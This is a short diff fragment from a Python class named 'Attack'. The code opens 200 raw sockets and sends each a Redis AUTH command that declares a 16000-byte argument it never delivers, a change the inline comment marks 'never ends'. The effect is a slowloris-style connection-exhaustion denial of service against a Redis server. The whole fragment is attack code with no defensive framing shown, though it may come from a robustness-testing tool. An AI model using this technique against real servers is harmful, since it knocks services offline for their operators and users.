@@ -90,7 +90,7 @@ class Attack:
         try:
             for _ in range(200):
                 s = self.raw()
-                s.sendall(b"*2\r\n$4\r\nAUTH\r\n$13\r\n")
+                s.sendall(b"*2\r\n$4\r\nAUTH\r\n$16000\r\n")  # never ends
                 socks.append(s)
             while not self.stop.wait(1):
                 for s in socks:
